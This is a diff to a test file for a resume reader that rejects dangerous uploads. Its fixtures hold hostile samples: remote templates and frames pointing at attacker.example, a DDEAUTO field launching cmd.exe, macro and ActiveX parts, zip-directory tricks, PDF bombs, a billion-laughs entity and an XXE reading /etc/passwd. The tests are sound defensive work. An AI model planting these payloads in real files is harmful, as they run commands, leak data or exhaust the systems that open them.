@@ -7,6 +7,7 @@ import { notesOf } from '../src/reading/notes.ts'
 import { readResume, stopReading } from '../src/reading/read-resume.ts'
 import { readText } from '../src/reading/read-text.ts'
 import type { ReadingOutcome } from '../src/reading/reading.ts'
+import { kindOf } from '../src/reading/sniff.ts'
 import { asDocx } from './support/resumes/as-docx.ts'
 import { asPdf } from './support/resumes/as-pdf.ts'
 import { asText } from './support/resumes/as-text.ts'
@@ -48,15 +49,84 @@ describe('a Word file that means harm', () => {
   })
 })
 
+describe('a Word file that would do something to whoever opens it', () => {
+  const related = (type: string, target: string, mode = 'External') => ({
+    'word/_rels/settings.xml.rels': `<Relationships xmlns="r"><Relationship Id="r1" Type="${KIND}/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
+  })
+  const field = (...pieces: string[]) => ({
+    'word/footnotes.xml': `<x:footnotes xmlns:x="w"><x:p><x:r><x:fldChar/></x:r>${pieces.map((piece) => `<x:r><x:instrText>${piece}</x:instrText></x:r>`).join('')}<x:r><x:fldChar/></x:r></x:p></x:footnotes>`,
+  })
+
+  it.each([
+    ['a template from the web', related('attachedTemplate', 'https://attacker.example/t.dotm'), 'reaches-out'],
+    ['a picture from the web', related('image', ' HTTP://attacker.example/p.png'), 'reaches-out'],
+    ['an object by way of mhtml', related('image', 'mhtml:http://attacker.example/x!x-usc:y'), 'reaches-out'],
+    ['a frame from a file server', related('frame', '\\\\attacker.example\\share\\x'), 'reaches-out'],
+    ['a template from a file server', related('attachedTemplate', 'file://attacker.example/t.dotm'), 'reaches-out'],
+    ['the same, escaped', related('attachedTemplate', 'file:///%5C%5Cattacker.example/t.dotm'), 'reaches-out'],
+    ['a page within', related('aFChunk', 'chunk.html', 'Internal'), 'reaches-out'],
+    ['a file within', { 'word/embeddings/oleObject1.bin': 'x' }, 'reaches-out'],
+    ['a control', { 'word/activeX/activeX1.xml': '<x/>' }, 'reaches-out'],
+    ['a field that runs a program', field(' DDEAUTO c:\\\\windows\\\\cmd.exe'), 'reaches-out'],
+    ['such a field in pieces', field(' D', 'DE', ' cmd'), 'reaches-out'],
+    [
+      'macros by its types',
+      { '[Content_Types].xml': '<Types><Override ContentType="a.macroEnabled.main+xml"/></Types>' },
+      'macros',
+    ],
+  ])('is not taken: %s', async (_, parts: Record<string, string>, why) => {
+    expect(await readResume(withParts(await asDocx(avery), parts))).toEqual({ unreadable: why })
+  })
+
+  it.each([
+    [
+      'the template that Word itself names',
+      related('attachedTemplate', 'file:///C:\\Users\\Avery\\Resume%20wide.dotx'),
+    ],
+    ['a template beside it', related('attachedTemplate', 'Normal.dotm')],
+    ['a link to press', related('hyperlink', 'https://www.linkedin.com/in/avery-sample')],
+    ['a page number, and a word that begins alike', field(' PAGE ', 'ddead')],
+  ])('is read where it only has %s', async (_, parts) => {
+    expect(await readResume(withParts(await asDocx(avery), parts))).toHaveProperty('read')
+  })
+})
+
+describe('a Word file that is not the same to every program', () => {
+  const whole = async () =>
+    Buffer.from(withParts(await asDocx(avery), { 'word/onePart000.bin': 'x', 'word/another000.bin': 'y' }))
+  /** A name stands before its part and in the list. */
+  const renamed = async (name: string, where: 'before' | 'in the list' | 'in both') => {
+    const file = await whole()
+    const places = [file.indexOf('word/onePart000'), file.lastIndexOf('word/onePart000')]
+    for (const place of { before: places.slice(0, 1), 'in the list': places.slice(1), 'in both': places }[where])
+      file.write(name, place, 'latin1')
+    return file
+  }
+
+  it.each([
+    ['a part that only its list names', () => renamed('word/unknown000.bin', 'in the list'), 'broken'],
+    ['macros that both name', () => renamed('word/vbaProject.bin', 'in both'), 'macros'],
+    ['macros that only its list names', () => renamed('word/vbaProject.bin', 'in the list'), 'macros'],
+    ['macros that its list does not name', () => renamed('word/vbaProject.bin', 'before'), 'macros'],
+    ['two parts of one name', () => renamed('word/another000.bin', 'in both'), 'broken'],
+    ['two parts of one name in capitals', () => renamed('word/ANOTHER000.bin', 'in both'), 'broken'],
+    ['two ends', async () => Buffer.concat([await whole(), Buffer.from('PK\x05\x06'), Buffer.alloc(18)]), 'broken'],
+    ['a list of nothing', async () => lying(10), 'broken'],
+  ])('is not taken: %s', async (_, file, why) => {
+    expect(await readResume(await file())).toEqual({ unreadable: why })
+  })
+})
+
 describe('a PDF that means harm', () => {
   it.each([
     ['10,000 pages', () => pdfOf(Array.from({ length: 10_000 }, () => 'BT (Hello) Tj ET')), 'too-long'],
     ['a page that unfolds to 130 MB', () => pdfOf(['BT (Hello) Tj ET\n'.repeat(8 * MEGABYTE)]), 'too-hard'],
     [
       'a page of more text than fifty pages hold',
-      () => pdfOf([`BT /F1 9 Tf ${'1 0 0 1 9 400 Tm (Hello my friend) Tj '.repeat(20_000)} ET`]),
+      () => pdfOf([`BT /F1 9 Tf ${`1 0 0 1 9 400 Tm (${'Hello my friend '.repeat(4)}) Tj `.repeat(6_000)} ET`]),
       'too-long',
     ],
+    ['40 MB of signs that draw nothing', () => pdfOf(['q Q '.repeat(10 * MEGABYTE)]), 'too-hard'],
     ['nothing but its first line', async () => Buffer.from('%PDF-1.7\n'), 'broken'],
     ['a page tree that is its own child', async () => Buffer.from(OWN_CHILD), 'broken'],
   ])('has its answer: %s', async (_, file, why) => {
@@ -68,6 +138,16 @@ describe('a PDF that means harm', () => {
       await pdfOf(['BT /F1 12 Tf (Hello) Tj ET'], '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'),
     )
     expect(outcome).toHaveProperty('read')
+  })
+})
+
+describe('a file in disguise', () => {
+  it.each([
+    ['a PDF after a little nothing', '\ufeff\r\n \0\0', 'pdf'],
+    ['a text about PDFs', 'Begins with ', 'text'],
+    ['a page of the web before a PDF', '<script>alert(1)</script>', 'neither-pdf-nor-docx'],
+  ])('is taken for what it begins as: %s', async (_, before, kind) => {
+    expect(kindOf(Buffer.from(`${before}%PDF-1.7\n`))).toBe(kind)
   })
 })
 
@@ -194,9 +274,16 @@ describe('the reader', () => {
 function expectAnswer(outcome: ReadingOutcome): void {
   if ('read' in outcome) expect(outcome.read.notes.length).toBeGreaterThan(0)
   else
-    expect(['broken', 'too-hard', 'too-long', 'encrypted', 'neither-pdf-nor-docx', 'empty', 'macros']).toContain(
-      outcome.unreadable,
-    )
+    expect([
+      'broken',
+      'too-hard',
+      'too-long',
+      'encrypted',
+      'neither-pdf-nor-docx',
+      'empty',
+      'macros',
+      'reaches-out',
+    ]).toContain(outcome.unreadable)
 }
 
 const BILLION_LAUGHS = `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "${'&a;'.repeat(10)}"><!ENTITY c "${'&b;'.repeat(10)}">]><w>&c;</w>`
@@ -205,6 +292,14 @@ const NAMES_A_FILE = '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><w>&
 const zip = async (parts: Readonly<Record<string, string>>): Promise<Uint8Array> =>
   zipSync(Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)])) as Zippable, {
     level: 6,
+  })
+
+const KIND = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
+
+const withParts = (docx: Uint8Array, parts: Readonly<Record<string, string>>): Uint8Array =>
+  zipSync({
+    ...unzipSync(docx),
+    ...Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)])),
   })
 
 const word = (body: string) =>
